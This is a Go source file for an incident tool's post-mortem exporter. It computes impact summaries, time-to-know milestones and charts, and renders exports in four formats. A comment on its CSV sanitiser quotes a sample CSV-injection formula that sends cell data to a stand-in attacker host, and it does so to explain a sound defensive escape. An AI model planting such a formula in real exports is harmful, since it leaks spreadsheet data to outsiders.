package templates

import (
	"bufio"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"iter"
	"maps"
	"sort"
	"strconv"
	"strings"
	"time"

	"stormdesk"
)

// ExportSchema names the JSON export's schema; it changes when the shape
// does (see templates/files/export.schema.json).
const ExportSchema = "stormdesk.export/v1"

// Formats lists the export formats.
var Formats = []string{"md", "html", "json", "csv"}

// ParseFormat checks an export format name.
func ParseFormat(s string) (string, error) {
	s = strings.ToLower(strings.TrimSpace(s))
	switch s {
	case "markdown":
		return "md", nil
	case "md", "html", "json", "csv":
		return s, nil
	}
	return "", stormdesk.Errorf(stormdesk.EINVALID, "format: %q is not one of md, html, json, csv", s)
}

// Export is what an export shows. Entries is read twice at most (never
// held whole), so exports of long timelines use flat memory.
type Export struct {
	Incident    *stormdesk.Incident
	Summary     Summary
	Chart       Chart
	Entries     iter.Seq[*stormdesk.TimelineEntry]
	GeneratedAt time.Time
}

// Summary is the post-mortem's opening paragraph, in numbers.
type Summary struct {
	Start               time.Time     `json:"impact_start"`
	End                 time.Time     `json:"impact_end"`
	Duration            time.Duration `json:"-"`
	DurationSeconds     float64       `json:"duration_seconds"`
	Reports             int           `json:"reports"`
	Customers           int           `json:"distinct_customers"`
	NotificationsSent   int           `json:"notifications_sent"`
	NotificationsFailed int           `json:"notifications_failed"`
	Entries             int           `json:"timeline_entries"`
	TimeToKnow          TimeToKnow    `json:"time_to_know"`
	// Channels counts the reports by the channel they came through, most
	// first (reports of no known channel are not counted); Tags counts
	// the MaxSummaryTags tags most reports carry, most first. Ties go by
	// name, so an export is the same every time.
	Channels []LabelCount `json:"reports_by_channel,omitempty"`
	Tags     []LabelCount `json:"top_tags,omitempty"`
}

// LabelCount is how many of an incident's reports carry one channel or
// one tag.
type LabelCount struct {
	Name    string `json:"name"`
	Reports int    `json:"reports"`
}

// MaxSummaryTags bounds the tags a summary lists: the ones most reports
// share say what the storm was about; a long tail says nothing more.
const MaxSummaryTags = 10

// Milestone keys, in the order the time-to-know block lists them: who
// learned of the incident when, from the provider's first word to the
// resolution.
const (
	MilestoneUpstream   = "first_upstream_signal"
	MilestoneProbe      = "first_probe_failure"
	MilestoneAlert      = "stormdesk_alert"
	MilestoneReport     = "first_customer_report"
	MilestoneAck        = "acknowledged"
	MilestoneEmail      = "first_customer_email"
	MilestoneResolution = "resolved"
)

// declared is when people declared the incident: not a milestone of its
// own, it explains a missing alert.
const declared = "declared"

// milestoneNames are each milestone's label in the block and its short
// label on the chart.
var milestoneNames = []struct{ key, label, short string }{
	{MilestoneUpstream, "First upstream signal", "upstream"},
	{MilestoneProbe, "First probe failure", "probe failing"},
	{MilestoneAlert, "stormdesk's alert", "stormdesk alert"},
	{MilestoneReport, "First customer report", "first report"},
	{MilestoneAck, "Acknowledged", "acknowledged"},
	{MilestoneEmail, "First customer email", "first email"},
	{MilestoneResolution, "Resolved", "resolved"},
}

func milestoneShort(key string) string {
	for _, n := range milestoneNames {
		if n.key == key {
			return n.short
		}
	}
	return key
}

// Milestone is one moment of the time-to-know block; At is nil when it
// did not happen (no probe, no email yet, still open).
type Milestone struct {
	Key   string     `json:"key"`
	Label string     `json:"label"`
	At    *time.Time `json:"at"`
}

// TimeToKnow is what the post-mortem is for: when the provider, the
// probes, stormdesk, the customers and the people on call each knew, and
// the leads and lags between them in words ("stormdesk alerted 93 min
// before the first customer report").
type TimeToKnow struct {
	Milestones []Milestone `json:"milestones"`
	Leads      []string    `json:"leads"`
}

// At is when the milestone key happened, or the zero time.
func (k TimeToKnow) At(key string) time.Time {
	for _, m := range k.Milestones {
		if m.Key == key && m.At != nil {
			return *m.At
		}
	}
	return time.Time{}
}

// Earliest is the first milestone that happened, or the zero time.
func (k TimeToKnow) Earliest() time.Time {
	var first time.Time
	for _, m := range k.Milestones {
		if m.At != nil && (first.IsZero() || m.At.Before(first)) {
			first = *m.At
		}
	}
	return first
}

// Span says a lead or lag in words: "93 min", "2 h 5 min", "30s".
func Span(d time.Duration) string {
	d = d.Abs()
	if d >= time.Minute && d < 2*time.Hour {
		return strconv.Itoa(int(d.Round(time.Minute).Minutes())) + " min"
	}
	return Duration(d)
}

// relation says when a happened relative to b: "93 min before", "in the
// same minute as", "5 min after".
func relation(a, b time.Time) string {
	d := a.Sub(b)
	switch {
	case d.Abs() < time.Minute:
		return "in the same minute as"
	case d < 0:
		return Span(d) + " before"
	}
	return Span(d) + " after"
}

// timeToKnow lists the milestones and says the leads between them that
// a reader looks for first: did stormdesk beat the customers, and by how
// much; how fast people acknowledged, wrote to customers and resolved.
func timeToKnow(at map[string]time.Time) TimeToKnow {
	var k TimeToKnow
	for _, n := range milestoneNames {
		m := Milestone{Key: n.key, Label: n.label}
		if t, ok := at[n.key]; ok && !t.IsZero() {
			t := t.UTC()
			m.At = &t
		}
		k.Milestones = append(k.Milestones, m)
	}
	has := func(key string) bool { return !k.At(key).IsZero() }
	say := func(format string, args ...any) { k.Leads = append(k.Leads, fmt.Sprintf(format, args...)) }
	alert, report, up, probe := k.At(MilestoneAlert), k.At(MilestoneReport), k.At(MilestoneUpstream), k.At(MilestoneProbe)
	switch {
	case has(MilestoneAlert) && has(MilestoneReport):
		say("stormdesk alerted %s the first customer report", relation(alert, report))
	case has(MilestoneAlert):
		say("stormdesk alerted; no customer reported the incident")
	case has(MilestoneReport) && !at[declared].IsZero():
		say("stormdesk raised no alert: people declared the incident")
	case has(MilestoneReport):
		say("stormdesk raised no alert")
	}
	if has(MilestoneAlert) && has(MilestoneUpstream) {
		say("stormdesk alerted %s the first upstream signal", relation(alert, up))
	}
	if has(MilestoneProbe) && has(MilestoneReport) {
		say("the first probe failure came %s the first customer report", relation(probe, report))
	}
	if has(MilestoneAck) {
		from, what := alert, "stormdesk's alert"
		if !has(MilestoneAlert) || (has(MilestoneReport) && report.Before(alert)) {
			from, what = report, "the first customer report"
		}
		if !from.IsZero() {
			say("acknowledged %s %s", relation(k.At(MilestoneAck), from), what)
		}
	}
	if has(MilestoneEmail) && has(MilestoneReport) {
		say("the first customer email went out %s the first customer report", relation(k.At(MilestoneEmail), report))
	}
	if has(MilestoneResolution) {
		if first := k.Earliest(); !first.IsZero() && first.Before(k.At(MilestoneResolution)) {
			say("resolved %s after the first signal", Span(k.At(MilestoneResolution).Sub(first)))
		}
	}
	return k
}

// Band is a span during which an upstream provider reported a status.
type Band struct {
	Provider string    `json:"provider"`
	Status   string    `json:"status"`
	Start    time.Time `json:"start"`
	End      time.Time `json:"end"`
}

// Marker is a labelled point on the chart: a time-to-know milestone (its
// key as Kind) or a status change ("status_change"). Milestones and
// status changes in the same minute share one marker.
type Marker struct {
	At    time.Time `json:"at"`
	Kind  string    `json:"kind"`
	Label string    `json:"label"`
}

// Chart is reports per bucket across the incident, with upstream bands
// and markers.
type Chart struct {
	Start       time.Time `json:"start"`
	BucketWidth string    `json:"bucket_width"`
	width       time.Duration
	Buckets     []int    `json:"reports_per_bucket"`
	Bands       []Band   `json:"upstream_bands"`
	Markers     []Marker `json:"markers"`
}

// MaxBuckets bounds the chart: a long incident gets wider buckets.
const MaxBuckets = 288

// Builder gathers an export's summary and chart from streamed ticket times
// and timeline entries, in memory proportional to the number of buckets
// and status changes, not to tickets or entries.
type Builder struct {
	counts     map[int64]int // 5-minute slot → reports
	first      time.Time
	last       time.Time
	sum        Summary
	bands      []Band
	open       map[string]int // provider → index of its open band
	markers    []Marker
	firstEntry time.Time
	lastEntry  time.Time
	milestones map[string]time.Time // the first time of each milestone seen in the entries
	// channels and tags count the reports by label: memory proportional
	// to the distinct labels (a few channels; tags as many as the desk
	// uses), not to the reports.
	channels map[string]int
	tags     map[string]int
}

// NewBuilder returns an empty Builder.
func NewBuilder() *Builder {
	return &Builder{counts: map[int64]int{}, open: map[string]int{}, milestones: map[string]time.Time{},
		channels: map[string]int{}, tags: map[string]int{}}
}

// AddLabels counts one report's channel ("" is not counted) and tags.
func (b *Builder) AddLabels(channel string, tags []string, tickets int) {
	if channel != "" {
		b.channels[channel] += tickets
	}
	for _, tag := range tags {
		b.tags[tag] += tickets
	}
}

// ranked is counts as LabelCounts, most first, ties by name, at most max
// (0: all).
func ranked(counts map[string]int, max int) []LabelCount {
	out := make([]LabelCount, 0, len(counts))
	for name, n := range counts {
		out = append(out, LabelCount{Name: name, Reports: n})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Reports != out[j].Reports {
			return out[i].Reports > out[j].Reports
		}
		return out[i].Name < out[j].Name
	})
	if max > 0 && len(out) > max {
		out = out[:max]
	}
	if len(out) == 0 {
		return nil
	}
	return out
}

const slot = 5 * time.Minute

// AddReport counts one ticket received at at.
func (b *Builder) AddReport(at time.Time) {
	b.counts[at.UnixNano()/int64(slot)]++
	if b.first.IsZero() || at.Before(b.first) {
		b.first = at
	}
	if at.After(b.last) {
		b.last = at
	}
}

// entryData is the structured data the builder reads from entries.
type entryData struct {
	Status   string `json:"status"`
	To       string `json:"to"`
	Provider string `json:"provider"`
	Sent     int    `json:"sent"`
	Failed   int    `json:"failed"`
	Template string `json:"template"`
}

// AddEntry reads one timeline entry, in time order.
func (b *Builder) AddEntry(e *stormdesk.TimelineEntry) {
	b.sum.Entries++
	if b.firstEntry.IsZero() {
		b.firstEntry = e.At
	}
	b.lastEntry = e.At
	var d entryData
	if len(e.Data) > 0 {
		_ = json.Unmarshal(e.Data, &d) // entries without these fields are fine
	}
	first := func(key string) {
		if t, ok := b.milestones[key]; !ok || e.At.Before(t) {
			b.milestones[key] = e.At
		}
	}
	active := d.Status != "" && d.Status != "resolved" && d.Status != "postmortem" && d.Status != "operational"
	switch e.Kind {
	case stormdesk.KindUpstream:
		p := d.Provider
		if p == "" {
			p = e.Actor
		}
		if active {
			first(MilestoneUpstream)
		}
		if i, ok := b.open[p]; ok {
			if active && b.bands[i].Status == d.Status {
				break // the same status goes on: one band, not two
			}
			b.bands[i].End = e.At
			delete(b.open, p)
		}
		if active {
			b.open[p] = len(b.bands)
			b.bands = append(b.bands, Band{Provider: p, Status: d.Status, Start: e.At})
		}
	case stormdesk.KindProbe:
		if d.Status != "resolved" {
			first(MilestoneProbe)
		}
	case stormdesk.KindDetected:
		first(MilestoneAlert)
	case stormdesk.KindDeclared:
		first(declared)
	case stormdesk.KindFirstReport:
		first(MilestoneReport)
	case stormdesk.KindAcknowledged:
		first(MilestoneAck)
	case stormdesk.KindStatusChange:
		if d.To == string(stormdesk.StatusResolved) {
			first(MilestoneResolution)
		}
		if d.To != "" {
			b.markers = append(b.markers, Marker{At: e.At, Kind: stormdesk.KindStatusChange, Label: d.To})
		}
	case stormdesk.KindNotification:
		// A message has two entries: queued, then its delivery report;
		// the summary counts what was sent, the first one sent is a
		// milestone.
		b.sum.NotificationsSent += d.Sent
		b.sum.NotificationsFailed += d.Failed
		if d.Sent > 0 {
			first(MilestoneEmail)
		}
	}
}

// Build finishes the summary and chart for inc, whose counts come from the
// store (reports, distinct customers).
func (b *Builder) Build(inc *stormdesk.Incident, reports, customers int) (Summary, Chart) {
	s := b.sum
	s.Reports, s.Customers = reports, customers
	s.Channels, s.Tags = ranked(b.channels, 0), ranked(b.tags, MaxSummaryTags)
	at := maps.Clone(b.milestones)
	if !b.first.IsZero() {
		at[MilestoneReport] = b.first // the tickets themselves are the truth
	}
	if inc.AcknowledgedAt != nil {
		if t, ok := at[MilestoneAck]; !ok || inc.AcknowledgedAt.Before(t) {
			at[MilestoneAck] = *inc.AcknowledgedAt
		}
	}
	if inc.ResolvedAt != nil {
		at[MilestoneResolution] = *inc.ResolvedAt
	}
	s.TimeToKnow = timeToKnow(at)
	// The impact window runs from the earliest signal (the provider's
	// word, a failing probe, stormdesk's alert or a customer's report;
	// with none of those, the first entry) to the resolution (or, while
	// open, the last thing that happened).
	s.Start = s.TimeToKnow.Earliest()
	if s.Start.IsZero() {
		s.Start = b.firstEntry
	}
	switch {
	case inc.ResolvedAt != nil:
		s.End = *inc.ResolvedAt
	case b.last.After(b.lastEntry):
		s.End = b.last
	default:
		s.End = b.lastEntry
	}
	if s.End.Before(s.Start) {
		s.End = s.Start
	}
	s.Duration = s.End.Sub(s.Start)
	s.DurationSeconds = s.Duration.Seconds()

	c := Chart{Bands: b.bands}
	// The chart spans the reports and the upstream trouble (so an outage
	// that began before the first ticket shows), with a little margin; a
	// long quiet tail before the resolution is left out of the picture.
	lo, hi := b.first, b.last
	widen := func(t time.Time) {
		if t.IsZero() {
			return
		}
		if lo.IsZero() || t.Before(lo) {
			lo = t
		}
		if t.After(hi) {
			hi = t
		}
	}
	for _, band := range b.bands {
		widen(band.Start)
		widen(band.End)
	}
	// Every milestone up to the first customer email is in the picture;
	// a resolution long after the reports stopped is not.
	for _, key := range []string{MilestoneUpstream, MilestoneProbe, MilestoneAlert, MilestoneReport, MilestoneAck, MilestoneEmail} {
		widen(s.TimeToKnow.At(key))
	}
	if lo.IsZero() {
		widen(b.firstEntry)
		widen(b.lastEntry)
	}
	if !hi.IsZero() {
		hi = hi.Add(30 * time.Minute)
	}
	for i := range c.Bands {
		if c.Bands[i].End.IsZero() || c.Bands[i].End.After(hi) {
			c.Bands[i].End = hi
		}
	}
	c.Markers = chartMarkers(s.TimeToKnow, b.markers, lo, hi)
	if lo.IsZero() {
		c.BucketWidth = Duration(slot)
		c.width = slot
		return s, c
	}
	first, last := lo.UnixNano()/int64(slot), hi.UnixNano()/int64(slot)
	per := (last-first)/MaxBuckets + 1 // slots per bucket
	c.width = time.Duration(per) * slot
	c.BucketWidth = Duration(c.width)
	c.Start = time.Unix(0, first*int64(slot)).UTC()
	c.Buckets = make([]int, (last-first)/per+1)
	keys := make([]int64, 0, len(b.counts))
	for k := range b.counts {
		keys = append(keys, k)
	}
	sort.Slice(keys, func(i, j int) bool { return keys[i] < keys[j] })
	for _, k := range keys {
		c.Buckets[(k-first)/per] += b.counts[k]
	}
	return s, c
}

// chartMarkers are the milestones and status changes between lo and hi,
// in time order, those in the same minute merged into one marker whose
// label names them all ("15:13 upstream · stormdesk alert").
func chartMarkers(k TimeToKnow, changes []Marker, lo, hi time.Time) []Marker {
	// stormdesk's alert comes first among milestones of the same minute:
	// it gives the merged marker its colour.
	var all []Marker
	for _, key := range []string{MilestoneAlert, MilestoneUpstream, MilestoneProbe, MilestoneReport, MilestoneAck, MilestoneEmail, MilestoneResolution} {
		if t := k.At(key); !t.IsZero() {
			all = append(all, Marker{At: t, Kind: key, Label: milestoneShort(key)})
		}
	}
	for _, m := range changes {
		// The resolution is a milestone already; an acknowledgement is
		// not a status change.
		if m.Label != string(stormdesk.StatusResolved) {
			m.Label = "→ " + m.Label
			all = append(all, m)
		}
	}
	sort.SliceStable(all, func(i, j int) bool { return all[i].At.Before(all[j].At) })
	var out []Marker
	for _, m := range all {
		if m.At.Before(lo) || m.At.After(hi) {
			continue
		}
		m.At = m.At.UTC()
		if n := len(out); n > 0 && out[n-1].At.Truncate(time.Minute).Equal(m.At.Truncate(time.Minute)) {
			out[n-1].Label += " · " + m.Label
			continue
		}
		out = append(out, m)
	}
	return out
}

// Render writes the export in format (md, html, json or csv).
func Render(w io.Writer, format string, x *Export) error {
	bw := bufio.NewWriterSize(w, 64<<10)
	var err error
	switch format {
	case "md":
		err = mdExport.Execute(bw, mdView{x, days(x.Entries)})
	case "html":
		err = htmlExport.Execute(bw, newHTMLView(x))
	case "json":
		err = renderJSON(bw, x)
	case "csv":
		err = renderCSV(bw, x)
	default:
		return stormdesk.Errorf(stormdesk.EINVALID, "format: %q is not one of md, html, json, csv", format)
	}
	if err != nil {
		return fmt.Errorf("templates: render %s: %w", format, err)
	}
	if err := bw.Flush(); err != nil {
		return fmt.Errorf("templates: write %s: %w", format, err)
	}
	return nil
}

// Line is a timeline entry with the day heading that precedes it, if it
// is the first entry of its day. After the last entry comes one Line with
// End set and no entry, so that templates can close what they opened.
type Line struct {
	Day   string
	First bool
	End   bool
	*stormdesk.TimelineEntry
}

func days(entries iter.Seq[*stormdesk.TimelineEntry]) iter.Seq[Line] {
	return func(yield func(Line) bool) {
		prev := ""
		first := true
		for e := range entries {
			l := Line{TimelineEntry: e, First: first}
			first = false
			if d := Day(e.At); d != prev {
				l.Day, prev = d, d
			}
			if !yield(l) {
				return
			}
		}
		if !first {
			yield(Line{End: true})
		}
	}
}

type mdView struct {
	*Export
	Lines iter.Seq[Line]
}

func renderJSON(w io.Writer, x *Export) error {
	head := struct {
		Schema      string              `json:"schema"`
		GeneratedAt time.Time           `json:"generated_at"`
		Incident    *stormdesk.Incident `json:"incident"`
		Summary     Summary             `json:"summary"`
		Chart       Chart               `json:"chart"`
	}{ExportSchema, x.GeneratedAt.UTC(), x.Incident, x.Summary, x.Chart}
	b, err := json.Marshal(head)
	if err != nil {
		return err
	}
	// Stream the timeline into the object: the head without its closing
	// brace, then the entries one by one.
	if _, err := w.Write(b[:len(b)-1]); err != nil {
		return err
	}
	if _, err := io.WriteString(w, `,"timeline":[`); err != nil {
		return err
	}
	first := true
	for e := range x.Entries {
		if !first {
			if _, err := io.WriteString(w, ","); err != nil {
				return err
			}
		}
		first = false
		b, err := json.Marshal(e)
		if err != nil {
			return err
		}
		if _, err := w.Write(b); err != nil {
			return err
		}
	}
	_, err = io.WriteString(w, "]}\n")
	return err
}

func renderCSV(w io.Writer, x *Export) error {
	cw := csv.NewWriter(w)
	if err := cw.Write([]string{"at", "kind", "actor", "text", "source_url", "data"}); err != nil {
		return err
	}
	for e := range x.Entries {
		row := []string{e.At.UTC().Format(time.RFC3339), e.Kind, e.Actor, e.Text, e.SourceURL, string(e.Data)}
		for i := range row {
			row[i] = CSVCell(row[i])
		}
		if err := cw.Write(row); err != nil {
			return err
		}
	}
	cw.Flush()
	return cw.Error()
}

// CSVCell neutralises a cell that a spreadsheet would run as a formula:
// one starting with =, +, -, @, a tab or a carriage return gets a single
// quote in front (OWASP's rule for CSV injection), so that a note
// =HYPERLINK("https://evil.example/?"&A1,"click") or an actor @SUM(1+1)
// opens as the text it is. Every cell of the CSV export goes through it.
func CSVCell(s string) string {
	if s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
		return "'" + s
	}
	return s
}
